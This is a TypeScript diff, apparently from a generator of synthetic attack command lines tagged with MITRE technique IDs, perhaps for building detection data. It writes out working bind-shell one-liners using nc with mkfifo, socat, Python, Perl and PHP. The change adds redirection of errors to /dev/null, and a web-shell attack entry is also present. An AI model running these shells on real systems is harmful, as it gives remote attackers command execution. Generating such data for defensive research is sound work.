@@ -24,10 +24,10 @@ function door(draw: Draw, port: number): string {
   const pipe = `/tmp/${draw.word()}`;
   return draw.pick([
     `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | /bin/sh 2>&1 | nc -l ${draw.chance(0.5) ? '-p ' : ''}${port} > ${pipe} &`,
-    `socat TCP-LISTEN:${port},reuseaddr${draw.chance(0.5) ? ',fork' : ''} EXEC:/bin/sh,stderr &`,
-    `python3 -c ${quote(`import socket,os,subprocess\ns=socket.socket(); s.setsockopt(1,2,1); s.bind(("0.0.0.0",${port})); s.listen(1)\nc,_=s.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\nsubprocess.call(["/bin/${draw.pick(['sh', 'bash'])}"])`)} &`,
-    `perl -MIO::Socket::INET -e ${quote(`$l=IO::Socket::INET->new(LocalPort=>${port},Listen=>1,ReuseAddr=>1) or die; $c=$l->accept; open(STDIN,"<&",$c); open(STDOUT,">&",$c); open(STDERR,">&",$c); exec "/bin/sh"`)} &`,
-    `php -r ${quote(`$l=stream_socket_server("tcp://0.0.0.0:${port}"); $c=stream_socket_accept($l); while(($x=fgets($c))!==false){ fwrite($c, shell_exec($x)); }`)} &`,
+    `socat TCP-LISTEN:${port},reuseaddr${draw.chance(0.5) ? ',fork' : ''} EXEC:/bin/sh,stderr 2> /dev/null &`,
+    `python3 -c ${quote(`import socket,os,subprocess\ns=socket.socket(); s.setsockopt(1,2,1); s.bind(("0.0.0.0",${port})); s.listen(1)\nc,_=s.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\nsubprocess.call(["/bin/${draw.pick(['sh', 'bash'])}"])`)} 2> /dev/null &`,
+    `perl -MIO::Socket::INET -e ${quote(`$l=IO::Socket::INET->new(LocalPort=>${port},Listen=>1,ReuseAddr=>1) or die; $c=$l->accept; open(STDIN,"<&",$c); open(STDOUT,">&",$c); open(STDERR,">&",$c); exec "/bin/sh"`)} 2> /dev/null &`,
+    `php -r ${quote(`$l=stream_socket_server("tcp://0.0.0.0:${port}"); $c=stream_socket_accept($l); while(($x=fgets($c))!==false){ fwrite($c, shell_exec($x)); }`)} 2> /dev/null &`,
   ]);
 }
 
@@ -45,7 +45,7 @@ const waiting: Attack = {
     const script = workFile(draw, place, '.sh');
     const says = `(sleep ${draw.int(1, 3)}; ${typed.map((line) => `echo ${quote(line)}; sleep ${draw.int(1, 3)}`).join('; ')}; echo exit)`;
     return [
-      ...look(draw, draw.int(0, 2)),
+      ...look(draw, draw.int(1, 3)),
       draw.chance(0.75)
         ? door(draw, port)
         : `${write(draw, script, `#!/bin/bash\n${door(draw, port)}\nwait`)}\nsetsid bash ${script} > /dev/null 2>&1 &`,
@@ -108,7 +108,7 @@ const page: Attack = {
   family: 'page-that-runs-commands',
   techniques: ['T1505.003', 'T1190', 'T1059.004', 'T1082'],
   as: 'either',
-  needs: ['php', 'python3', 'curl', 'sudo'],
+  needs: ['php', 'python3', 'curl', 'setpriv'],
   lines: (draw, place) => {
     const folder =
       place.user === 'root'
